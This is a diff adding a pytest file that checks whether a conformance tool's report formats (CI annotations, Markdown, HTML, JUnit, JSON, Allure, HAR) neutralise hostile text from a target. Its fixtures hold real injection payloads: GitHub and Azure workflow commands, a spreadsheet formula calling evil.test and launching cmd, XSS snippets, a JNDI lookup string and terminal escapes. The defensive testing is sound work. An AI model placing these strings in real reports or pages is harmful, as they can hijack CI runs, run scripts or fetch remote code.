@@ -1,0 +1,199 @@
+"""Texts of a target in every place of every format, read by the stock reader of the format."""
+
+import json
+import os
+import re
+from collections.abc import Iterable
+from typing import Any
+from unittest.mock import patch
+from xml.etree import ElementTree as ET
+
+import junitparser
+import pytest
+from markdown_it import MarkdownIt
+from page_elements import Elements, harmless
+from sample_reports import EXCHANGES, OURS, a_report, poisoned
+
+from conformance.http import serialization
+from conformance.report import artefacts
+from conformance.report.console import terminal
+from conformance.report.formats import allure, ci, ctrf, earl, har, html, junit, markdown
+
+PLAIN = "a plain text of a target"
+TEXTS = {
+    "GitHub": "::error::owned\n::add-mask::a\r::stop-commands::x%0A::set-output name=a::b",
+    "old GitHub": "##[error]owned ##[add-path]/tmp %25%0D%0A##[set-env name=PATH]/tmp",
+    "GitLab": "section_start:1:a\r\x1b[0Kowned\nsection_end:1:a\r\x1b[0K",
+    "Azure": "##vso[task.setvariable variable=PATH]/tmp",
+    "spreadsheet": '=HYPERLINK("http://evil.test","open")\t@SUM(1)\n+1|cmd\' /C calc\'!A0',
+    "Markdown": "[x](javascript:1) ![y](http://evil.test/p.png) <b>a</b> | c |\n# big\n- item",
+    "mentions": "@everyone #1 owner/name#2 GH-3 http://evil.test www.evil.test a@evil.test",
+    "references": "[x]: http://evil.test\n\n[x]\n```\n~~~\n---\n&lt;script&gt; &amp;copy;",
+    "HTML": "</title></style></script><script>alert(1)</script><svg/onload=alert(1)>\"' onx=1 ",
+    "XML": "]]></failure><failure message='x'/><!-- -- --><?php ?> &#0; &#27; \ufffe\uffff\x0b",
+    "terminal": "\x1b]8;;http://evil.test\x07link\x1b]8;;\x07\x1b[2J\x1b[1A\x9b31m\x90q\x9c\x08\x7f\x00",
+    "bidi": "\u202eevil\u2066\u2069\u200f\u061c\u200b\u2028\u2029\ufeff\U000e0041",
+    "surrogates": "\ud800\udfff\udc00 lone",
+    "properties": "a = b\n\\u0000 \\\n! comment\r\ntarget = owned",
+    "templates": "{{ 7 * 7 }} {% include 'x' %} ${jndi:ldap://evil.test} #{7*7} <%= 7 %>",
+}
+INVISIBLE = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
+)
+
+
+@pytest.fixture(params=TEXTS)
+def hostile(request: pytest.FixtureRequest) -> Any:
+    """A report with one of these texts wherever a text of a target may be."""
+    return reported(TEXTS[request.param])
+
+
+@pytest.fixture(scope="module")
+def benign() -> Any:
+    """The same report with a plain text."""
+    return reported(PLAIN)
+
+
+def reported(text: str) -> Any:
+    """A report with a text in every place of a target, and the commands that follow from it."""
+    report = poisoned(a_report(ledger=[]), text, OURS)
+    for entry in report["requirements"]:
+        for exchange in (each for found in entry["findings"] for each in found["exchanges"]):
+            exchange["curl"] = serialization.curl(exchange["request"])
+    return report
+
+
+def texts(value: Any) -> Iterable[str]:
+    """Every string in a JSON document."""
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for child in value.values():
+            yield from texts(child)
+    elif isinstance(value, list):
+        for child in value:
+            yield from texts(child)
+
+
+def hidden(value: Any) -> list[str]:
+    """The strings in a JSON document with a character that shows nothing, or moves others."""
+    return [text for text in texts(value) if INVISIBLE.search(text)]
+
+
+def commands(output: str) -> list[str]:
+    """What the runner of GitHub Actions obeys in an output; it reads lines as .NET does."""
+    lines = re.split("\r\n|\r|\n", output)
+    found = [line.strip() for line in lines if line.strip().startswith("::") or "##[" in line]
+    return [line for line in found if not re.match("::(error|warning) title=[^:]*::", line)]
+
+
+def test_no_workflow_command_is_in_annotations_and_on_the_terminal(
+    hostile: Any, benign: Any
+) -> None:
+    """The annotations are ours, one line each; the terminal gets no command and no escape."""
+    annotations = list(ci.annotations(hostile))
+    lines = list(terminal.lines(hostile))
+
+    assert len(annotations) == len(list(ci.annotations(benign))) > 0
+    assert commands("\n".join([*annotations, *lines])) == []
+    assert hidden([*annotations, *lines]) == []
+    assert all(line.splitlines() in ([], [line]) for line in [*annotations, *lines])
+
+
+def test_markdown_has_no_markup_of_a_target(hostile: Any, benign: Any) -> None:
+    """A reader of Markdown makes the same elements as of a plain text."""
+    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+    rendered = markdown.render(hostile).decode("utf-8", "surrogatepass")
+
+    tags = [tag for tag, _ in Elements(reader.render(rendered)).found]
+    plain = [tag for tag, _ in Elements(reader.render(markdown.render(benign).decode())).found]
+
+    assert tags == plain
+    assert INVISIBLE.search(rendered) is None
+    assert re.search(r"(?<!\\)[@#]\w", rendered) is None
+
+
+def test_the_page_has_no_element_of_a_target(hostile: Any) -> None:
+    """Only the script of this package runs, and nothing is loaded."""
+    exchanges = poisoned(EXCHANGES, hostile["requirements"][0]["findings"][0]["message"])
+    page = html.render(hostile, exchanges)
+
+    harmless(page)
+    assert not [tag for tag, _ in Elements(page).found if tag in {"svg/onload", "failure", "img"}]
+    assert INVISIBLE.search(page) is None
+
+
+def test_junit_is_well_formed_and_has_its_own_cases_only(hostile: Any, benign: Any) -> None:
+    """Two readers of XML accept it; elements and counts are those of a plain text."""
+    content = junit.render(hostile)
+    plain = ET.fromstring(junit.render(benign))
+
+    assert [element.tag for element in ET.fromstring(content).iter()] == [
+        element.tag for element in plain.iter()
+    ]
+    read = junitparser.JUnitXml.fromstring(content)
+    reasons = [result.message for suite in read for case in suite for result in case.result]
+    assert hidden(reasons) == []
+
+
+@pytest.mark.parametrize("render", [ctrf.render, earl.render, ci.code_quality, ci.badge])
+def test_json_documents_have_the_structure_of_a_plain_text(
+    render: Any, hostile: Any, benign: Any
+) -> None:
+    """Keys and lengths are equal, and no text has an invisible character."""
+    found, plain = (
+        json.loads(render(each).decode("utf-8", "surrogatepass")) for each in (hostile, benign)
+    )
+
+    assert structure(found) == structure(plain)
+    assert [text for text in hidden(found) if not text.startswith("requirement: ")] == []
+
+
+def structure(value: Any) -> Any:
+    """A JSON document without its texts."""
+    if isinstance(value, dict):
+        return {name: structure(child) for name, child in value.items()}
+    if isinstance(value, list):
+        return [structure(child) for child in value]
+    return None if isinstance(value, str) else value
+
+
+def test_allure_results_have_the_files_of_a_plain_text(hostile: Any, benign: Any) -> None:
+    """Attachments are plain texts; the rest has nothing invisible."""
+    files, plain = dict(allure.render(hostile)), dict(allure.render(benign))
+    results = [json.loads(files[name]) for name in files if name.endswith(".json")]
+    attached = (
+        [
+            attachment["type"]
+            for result in results
+            for step in result.get("steps", [])
+            for inner in step["steps"]
+            for attachment in inner["attachments"]
+        ]
+        if all(isinstance(result, dict) for result in results)
+        else []
+    )
+
+    assert files.keys() == plain.keys()
+    assert set(attached) <= {"text/plain"}
+    assert hidden([results]) == []
+    environment = files["environment.properties"].decode()
+    assert len(environment.splitlines()) == len(plain["environment.properties"].splitlines())
+
+
+def test_an_archive_has_one_entry_for_each_exchange(hostile: Any) -> None:
+    """It is raw data: JSON alone protects its texts."""
+    message = hostile["requirements"][0]["findings"][0]["message"]
+    archive = json.loads(
+        har.render(hostile, poisoned(EXCHANGES, message)).decode("utf-8", "surrogatepass")
+    )
+    assert len(archive["log"]["entries"]) == len(EXCHANGES)
+
+
+def test_what_is_published_on_github_holds_no_command(hostile: Any, tmp_path: Any) -> None:
+    """The lines of the output, with the summary in its file."""
+    environ = {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md")}
+    with patch.dict(os.environ, environ):
+        lines = list(artefacts.publish(hostile, environ))
+    assert commands("\n".join(lines)) == []
+    assert INVISIBLE.search((tmp_path / "summary.md").read_bytes().decode()) is None
